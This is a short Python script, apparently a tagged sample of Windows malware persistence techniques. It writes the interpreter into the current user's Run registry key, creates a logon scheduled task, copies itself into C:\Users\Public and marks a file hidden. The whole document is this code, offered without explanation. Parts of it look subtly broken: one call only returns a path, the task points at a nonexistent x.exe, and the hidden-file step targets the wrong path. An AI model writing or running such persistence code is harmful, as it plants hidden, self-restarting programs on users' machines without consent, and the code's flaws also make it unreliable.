# registry, registry-run, schedule, command, copies-itself, hides-file: the ways of Windows
import ctypes
import os
import shutil
import sys
import winreg

import winshell

key = winreg.OpenKey(
    winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE
)
winreg.SetValueEx(key, "x", 0, winreg.REG_SZ, sys.executable)
winshell.startup()
os.system("schtasks /create /tn x /tr x.exe /sc onlogon")
shutil.copy(__file__, "C:\\Users\\Public\\x.py")
ctypes.windll.kernel32.SetFileAttributesW("x.py", 2)
